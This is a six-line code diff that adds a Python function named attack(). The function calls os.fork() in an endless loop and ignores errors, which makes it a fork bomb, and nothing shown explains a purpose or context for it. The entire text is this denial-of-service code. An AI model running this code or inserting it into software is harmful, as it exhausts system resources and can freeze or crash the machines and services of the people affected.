@@ -1,0 +1,6 @@
+def attack():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
